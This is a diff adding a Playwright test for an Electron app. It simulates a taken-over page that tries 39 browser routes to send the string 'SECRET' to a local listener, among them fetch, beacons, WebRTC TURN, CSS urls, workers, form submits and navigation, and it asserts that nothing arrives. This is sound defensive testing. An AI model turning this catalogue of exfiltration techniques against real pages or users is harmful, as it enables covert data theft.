@@ -1,0 +1,161 @@
+import { createSocket, type Socket } from 'node:dgram'
+import { once } from 'node:events'
+import { type AddressInfo, createServer, type Server } from 'node:net'
+import { networkInterfaces } from 'node:os'
+import { expect, test } from '@playwright/test'
+import { type LaunchedApp, launchApp } from '../../support/electron-app.ts'
+
+/**
+ * Every way out of a page that Chromium knows, tried by code that runs in it, toward a listener that is not on the
+ * loopback interface where the machine has another: not one byte may arrive, and no name may be looked up.
+ */
+const own = Object.values(networkInterfaces())
+  .flat()
+  .find((one) => one && !one.internal && one.family === 'IPv4')?.address
+const host = own ?? '127.0.0.1'
+
+let launched: LaunchedApp
+let tcp: Server
+let udp: Socket
+let port: number
+const arrived: string[] = []
+
+test.beforeAll(async () => {
+  tcp = createServer((socket) => {
+    arrived.push('connected')
+    socket.on('data', (data) => arrived.push(data.toString('latin1'))).on('error', () => undefined)
+  })
+  tcp.listen(0, '0.0.0.0')
+  await once(tcp, 'listening')
+  port = (tcp.address() as AddressInfo).port
+  udp = createSocket('udp4', (data) => arrived.push(data.toString('latin1')))
+  udp.bind(port)
+  await once(udp, 'listening')
+  launched = await launchApp()
+})
+test.afterAll(async () => {
+  await launched?.close()
+  tcp.close()
+  udp.close()
+})
+
+test('what Chromium asks of the network goes to a proxy that leads nowhere', async () => {
+  const settings = await launched.app.evaluate(async ({ BrowserWindow, session }) => ({
+    policy: BrowserWindow.getAllWindows()[0]?.webContents.getWebRTCIPHandlingPolicy(),
+    remote: await session.defaultSession.resolveProxy('https://example.com/'),
+  }))
+  expect(settings).toEqual({ policy: 'disable_non_proxied_udp', remote: 'PROXY 127.0.0.1:9' })
+})
+
+test('no byte leaves a page that was taken over', async () => {
+  test.slow()
+  const { page } = launched
+  await expect(page.getByRole('heading', { level: 1 })).toHaveText('See what was hidden')
+  const tried = await page.evaluate(
+    async ({ server, http }) => {
+      const add = (tag: string, members: object) =>
+        document.body.append(Object.assign(document.createElement(tag), members))
+      const link = (rel: string, members: object = {}) =>
+        document.head.append(Object.assign(document.createElement('link'), { rel, href: http, ...members }))
+      const call = async (place: Window & typeof globalThis, urls: string) => {
+        const username = 'SECRET'.repeat(40)
+        const connection = new place.RTCPeerConnection({
+          iceServers: [{ urls, username, credential: 'x' }],
+          iceTransportPolicy: urls.startsWith('turn') ? 'relay' : 'all',
+        })
+        connection.createDataChannel('x')
+        await connection.setLocalDescription(await connection.createOffer())
+      }
+      const frame = () => {
+        const made = document.createElement('iframe')
+        document.body.append(made)
+        return made.contentWindow as Window & typeof globalThis
+      }
+      const style = (text: string) => {
+        const sheet = new CSSStyleSheet()
+        sheet.replaceSync(text)
+        document.adoptedStyleSheets.push(sheet)
+      }
+      const vectors: Readonly<Record<string, () => unknown>> = {
+        fetch: () => fetch(http, { method: 'POST', body: 'SECRET', mode: 'no-cors' }),
+        'fetch, kept alive': () => fetch(http, { keepalive: true, mode: 'no-cors' }),
+        'fetch of an empty frame': () => frame().fetch(http, { mode: 'no-cors' }),
+        XMLHttpRequest: () => {
+          const request = new XMLHttpRequest()
+          request.open('POST', http)
+          request.send('SECRET')
+        },
+        beacon: () => navigator.sendBeacon(http, 'SECRET'),
+        WebSocket: () => new WebSocket(http.replace('http', 'ws')),
+        EventSource: () => new EventSource(http),
+        WebTransport: () => new WebTransport(http.replace('http', 'https')),
+        'STUN over UDP': () => call(window, `stun:${server}`),
+        'TURN over UDP': () => call(window, `turn:${server}?transport=udp`),
+        'TURN over TCP': () => call(window, `turn:${server}?transport=tcp`),
+        'TURN over TLS': () => call(window, `turns:${server}?transport=tcp`),
+        'TURN of an empty frame': () => call(frame(), `turn:${server}?transport=tcp`),
+        image: () => add('img', { src: http }),
+        script: () => add('script', { src: http }),
+        frame: () => add('iframe', { src: http }),
+        object: () => add('object', { data: http }),
+        embed: () => add('embed', { src: http }),
+        video: () => add('video', { src: http, preload: 'auto' }),
+        audio: () => add('audio', { src: http, preload: 'auto' }),
+        stylesheet: () => link('stylesheet'),
+        icon: () => link('icon'),
+        manifest: () => link('manifest'),
+        prefetch: () => link('prefetch'),
+        preload: () => link('preload', { as: 'image' }),
+        modulepreload: () => link('modulepreload'),
+        preconnect: () => link('preconnect'),
+        'dns-prefetch': () => link('dns-prefetch'),
+        'background of a style': () => style(`body { background: url(${http}) }`),
+        'font of a style': () =>
+          style(`@font-face { font-family: x; src: url(${http}) } body { font: 1px x }`),
+        'image of SVG': () => {
+          const image = document.createElementNS('http://www.w3.org/2000/svg', 'image')
+          image.setAttribute('href', http)
+          const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
+          svg.append(image)
+          document.body.append(svg)
+        },
+        worker: () => new Worker(URL.createObjectURL(new Blob([`importScripts('${http}')`]))),
+        'module of another host': () => import(/* @vite-ignore */ http),
+        'rules of speculation': () =>
+          add('script', {
+            type: 'speculationrules',
+            textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [http] }] }),
+          }),
+        'report of a policy': () =>
+          add('meta', {
+            httpEquiv: 'Content-Security-Policy',
+            content: `img-src 'none'; report-uri ${http}`,
+          }),
+        'ping of a link': () => {
+          const anchor = Object.assign(document.createElement('a'), { href: '#x', ping: http })
+          document.body.append(anchor)
+          anchor.click()
+        },
+        form: () => {
+          const form = Object.assign(document.createElement('form'), { action: http, method: 'post' })
+          document.body.append(form)
+          form.submit()
+        },
+        window: () => open(http),
+        navigation: () => location.assign(http),
+      }
+      for (const attempt of Object.values(vectors)) {
+        try {
+          Promise.resolve(attempt()).catch(() => undefined)
+        } catch {
+          // Refused at once.
+        }
+      }
+      await new Promise((resolve) => setTimeout(resolve, 10_000))
+      return Object.keys(vectors).length
+    },
+    { server: `${host}:${port}`, http: `http://${host}:${port}/SECRET` },
+  )
+  expect(tried).toBe(39)
+  expect(arrived).toEqual([])
+})
